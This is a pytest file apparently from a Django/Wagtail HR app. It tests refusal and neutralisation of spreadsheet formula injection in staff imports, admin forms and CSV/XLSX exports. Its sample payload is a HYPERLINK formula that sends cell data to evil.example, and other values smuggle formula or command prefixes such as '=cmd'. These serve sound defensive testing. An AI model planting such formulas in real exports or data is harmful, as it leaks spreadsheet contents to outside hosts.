"""Formula text: one rule refuses it on the way in (importer and admin forms alike) and every CSV we or the
Wagtail admin write neutralises it on the way out; XLSX cells are strings, never formulas."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.exceptions import ValidationError
from django.urls import reverse
from wagtail.log_actions import log
from wagtail.models import ModelLogEntry

from assessments.models import SkillArea
from cms.formula import FORMULA_TEXT, formula_neutralised, formula_refusal
from learning.models import Organisation, StaffMember, Team
from learning.staff_import import cells
from readiness.models import Cohort
from readiness.reports import exports
from tests.factories import OrganisationFactory, StaffMemberFactory, UserFactory
from tests.factories.assessments import SkillFrameworkFactory
from tests.factories.learning import mfa_activate
from tests.factories.readiness import load_worked_example, worked_example
from tests.readiness.test_cohort_admin import cohort_data

EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'
AS_OF = date.fromisoformat(worked_example()["expected"]["as_of"]["as_of"])
EVIL_REFUSAL = cells.FORMULA_CELL.format(value=cells.shorten(EVIL), start="“=”")  # as the importer words it


# --- the rule ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "start"),
    [("=1+2", "“=”"), ("+44 20 7946 0000", "“+”"), ("@SUM(A1)", "“@”"), ("\t=cmd", "a tab"),
     ("\rcmd", "a carriage return"), ("-2+3", "“-”"), ("-cmd", "“-”"), ("-(1)", "“-”"), ("  =1", "“=”")],
)  # fmt: skip
def test_the_importer_and_the_rule_refuse_the_same_values_with_the_same_message(value, start):
    message = FORMULA_TEXT.format(value=value.strip(), start=start)
    assert formula_refusal(value) == message
    with pytest.raises(cells.CellError) as refused:
        cells.formula_check(value)
    assert str(refused.value) == message


@pytest.mark.parametrize("value", ["", "-", "- none", "Smith-Jones", "A&E Nurse", "O'Brien", "Band 5 - Nurse"])
def test_ordinary_names_with_dashes_and_symbols_pass(value):
    assert formula_refusal(value) is None


@pytest.mark.parametrize(
    ("text", "cell"),
    [(EVIL, "'" + EVIL), ("  =1+1", "'  =1+1"), ("\n=1", "'\n=1"), ("\t1", "'\t1"), ("-1", "'-1"), ("+1", "'+1"),
     ("@x", "'@x"), ("- none", "'- none"), ("Plain", "Plain"), ("", ""), ("a=b", "a=b")],
)  # fmt: skip
def test_exported_text_that_could_be_a_formula_gets_a_leading_quote(text, cell):
    assert formula_neutralised(text) == cell


# --- the admin forms ---------------------------------------------------------------------------------------------


@pytest.fixture
def org(db):
    return OrganisationFactory(name="Northbrook")


@pytest.fixture
def hr_client(client, org):
    user = UserFactory()
    user.groups.add(Group.objects.get(name="HR"))
    mfa_activate(user)
    StaffMemberFactory(organisation=org, user=user, employee_number="HR001")
    client.force_login(user)
    return client


def staff_form(staff: StaffMember, **changes) -> dict:
    data = {
        "organisation": staff.organisation_id,
        "employee_number": staff.employee_number,
        "first_name": staff.first_name,
        "last_name": staff.last_name,
        "email": staff.email,
        "team": "",
        "job_role": staff.job_role,
        "band": staff.band,
        "line_manager": "",
        "start_date": "",
        "leave_date": "",
    }
    return {**data, **changes}


def test_the_staff_edit_form_refuses_a_formula_first_name_with_the_importers_message(hr_client, org):
    person = StaffMemberFactory(organisation=org, first_name="Kwame", last_name="Baker")
    logged = ModelLogEntry.objects.count()
    response = hr_client.post(reverse("staffmember:edit", args=[person.pk]), staff_form(person, first_name=EVIL))
    assert response.status_code == 400  # refused forms answer 400 with the message
    assert response.context["form"].errors["first_name"] == [EVIL_REFUSAL]
    person.refresh_from_db()
    assert person.first_name == "Kwame"
    assert ModelLogEntry.objects.count() == logged


@pytest.mark.parametrize(
    "field",
    ["employee_number", "last_name", "email", "job_role", "band"],
)
def test_every_staff_field_the_importer_checks_is_checked_by_the_form(hr_client, org, field):
    person = StaffMemberFactory(organisation=org, email="k.baker@northbrook.example")
    value = "+44 20 7946 0000" if field != "email" else "=cmd@northbrook.example"
    response = hr_client.post(reverse("staffmember:edit", args=[person.pk]), staff_form(person, **{field: value}))
    assert response.status_code == 400  # refused forms answer 400 with the message
    assert "could run it as a formula" in response.context["form"].errors[field][0]
    assert StaffMember.objects.get(pk=person.pk).__dict__[field] == person.__dict__[field]


def test_the_staff_form_still_saves_ordinary_names(hr_client, org):
    person = StaffMemberFactory(organisation=org)
    response = hr_client.post(
        reverse("staffmember:edit", args=[person.pk]), staff_form(person, last_name="Smith-Jones", band="- ")
    )
    assert response.status_code == 302
    assert StaffMember.objects.get(pk=person.pk).last_name == "Smith-Jones"


def test_the_team_form_refuses_a_formula_name(hr_client, org):
    response = hr_client.post(reverse("team:add"), {"organisation": org.pk, "name": "@SUM(A1)", "parent": ""})
    assert response.status_code == 400  # refused forms answer 400 with the message
    assert response.context["form"].errors["name"] == [FORMULA_TEXT.format(value="@SUM(A1)", start="“@”")]
    assert not Team.objects.filter(organisation=org).exists()


def test_the_cohort_form_refuses_a_formula_name(hr_client, org):
    response = hr_client.post(reverse("cohort:add"), cohort_data(org, name="-2+3"))
    assert response.status_code == 400  # refused forms answer 400 with the message
    assert response.context["form"].errors["name"] == [FORMULA_TEXT.format(value="-2+3", start="“-”")]
    assert not Cohort.objects.filter(organisation=org).exists()


@pytest.mark.parametrize(
    ("model", "make"),
    [(Organisation, lambda org: Organisation(name="=1+1", slug="x")),
     (Team, lambda org: Team(organisation=org, name="=1+1")),
     (Cohort, lambda org: Cohort(organisation=org, name="=1+1", slug="x")),
     (SkillArea, lambda org: SkillArea(framework=SkillFrameworkFactory(), slug="x", name="=1+1"))],
)  # fmt: skip
def test_names_that_end_up_in_exports_are_refused_by_full_clean(org, model, make):
    with pytest.raises(ValidationError) as refused:
        make(org).full_clean()
    assert refused.value.message_dict["name"] == [FORMULA_TEXT.format(value="=1+1", start="“=”")]


# --- what we write -----------------------------------------------------------------------------------------------


def test_the_readiness_csv_and_xlsx_write_formula_text_neutralised_and_as_strings(db):
    cohort, people = load_worked_example()
    person = people["A"]
    StaffMember.objects.filter(pk=person.pk).update(job_role="  " + EVIL)  # stored before the forms refused it
    Team.objects.filter(pk=person.team_id).update(name="-2+3")
    exported = exports.readiness_export(cohort=cohort, as_of=AS_OF, table="staff", file_format="csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells_written = [cell for row in rows[1:] for cell in row]
    assert "'  " + EVIL in cells_written and "'-2+3" in cells_written
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells_written)

    workbook = exports.readiness_export(cohort=cohort, as_of=AS_OF, table="staff", file_format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content))["staff"]
    job_roles = [row[5] for row in sheet.iter_rows(min_row=2)]
    evil = [cell for cell in job_roles if EVIL in str(cell.value)]
    assert evil and all(cell.data_type == "s" and cell.value == "'  " + EVIL for cell in evil)


@pytest.fixture
def admin_client(client, db):
    admin = UserFactory(is_superuser=True, is_staff=True)
    mfa_activate(admin)
    client.force_login(admin)
    return client


def test_the_site_history_csv_writes_a_formula_label_neutralised(admin_client, org):
    person = StaffMemberFactory(organisation=org, first_name="Kwame")
    log(person, "wagtail.edit", title=EVIL)
    response = admin_client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    labels = [row[1] for row in rows[1:]]
    assert "'" + EVIL in labels
    assert EVIL not in labels


def test_the_site_history_xlsx_writes_a_formula_label_as_a_string(admin_client, org):
    person = StaffMemberFactory(organisation=org, first_name="Kwame")
    log(person, "wagtail.edit", title=EVIL)
    response = admin_client.get(reverse("wagtailadmin_reports:site_history") + "?export=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    labels = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in labels if EVIL in str(cell.value)] == [(EVIL, "s")]
